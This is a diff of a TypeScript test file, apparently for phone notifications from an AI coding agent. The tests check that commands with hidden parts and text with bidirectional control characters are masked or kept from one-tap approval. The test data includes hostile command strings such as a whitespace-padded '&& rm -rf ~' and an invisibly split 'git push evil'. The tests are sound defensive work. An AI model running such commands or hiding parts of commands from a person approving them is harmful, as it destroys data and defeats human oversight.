@@ -41,8 +41,8 @@ const permission = (name: string, args: unknown, risk = "remote") =>
   });
 const question = (prompt: string, id = "q") => ({ id, label: "Database", prompt, type: "free_text" });
 
-describe("what a person is told", () => {
-  test("names the session as the phone does", () => {
+describe("a notification", () => {
+  test("names the session like the phone does", () => {
     expect(newsOf(request, [done("stop")])).toMatchObject({
       title: "Add a retry to the uploader",
       sandboxId: "s1",
@@ -98,12 +98,12 @@ describe("what a person is told", () => {
     ["invisible", "git push evil\u200b main"],
     ["pushed out of sight", `npm test${" ".repeat(50)}&& rm -rf ~`],
     ["beside a tab", "npm test\t&& id"],
-  ])("a command with a part that is %s is not on the lock screen", (_, command) => {
+  ])("keeps a command with a part that is %s off the lock screen", (_, command) => {
     const events = [permission("run_command", { command }), done("permission")];
     expect(newsOf(request, events)).toMatchObject({ line: "May it run a command?" });
   });
 
-  test("what hides in a title, a question, a goal or an error is shown as a mark", () => {
+  test("marks what is hidden in a title, a question, a goal or an error", () => {
     const hostile = "Which \u202edatabase\u2066?";
     const asked = event("questions", { toolCallId: "c", round: 1, questions: [question(hostile)] });
     const error = { code: "internal", message: hostile, retryable: false };
@@ -113,11 +113,11 @@ describe("what a person is told", () => {
     expect(newsOf(titled, [event("turn.failed", { error })])).toMatchObject({ line: marked });
   });
 
-  test("a stop is no news: the person pressed it", () => {
+  test("is not sent for a stop: the person pressed it", () => {
     expect(newsOf(request, [done("stopped")])).toBeUndefined();
   });
 
-  test("questions are one line, the first one and how many more", () => {
+  test("shows questions in one line, the first one and how many more", () => {
     const asked = event("questions", {
       toolCallId: "c",
       round: 1,
@@ -149,7 +149,7 @@ describe("what can be decided from the notification", () => {
       ...batch,
     });
 
-  test("a command that is shown whole, by the call's id", () => {
+  test("a completely shown command, by the call's id", () => {
     const events = [command({ command: "git push", timeoutMs: 5_000 }), done("permission")];
     expect(asks(events)).toEqual({ toolCallId: "c", command: "git push" });
   });
@@ -164,7 +164,7 @@ describe("what can be decided from the notification", () => {
     ["a command with two spaces, which a phone may draw as one", [command({ command: "rm -r a  b" })]],
     ["two commands", [command({ command: "git push" }), command({ command: "git pull" })]],
     ["another call", [permission("delete_file", { path: "a" })]],
-  ])("not %s", (_, events) => {
+  ])("no question with %s", (_, events) => {
     expect(asks([...events, done("permission")])).toBeUndefined();
   });
 
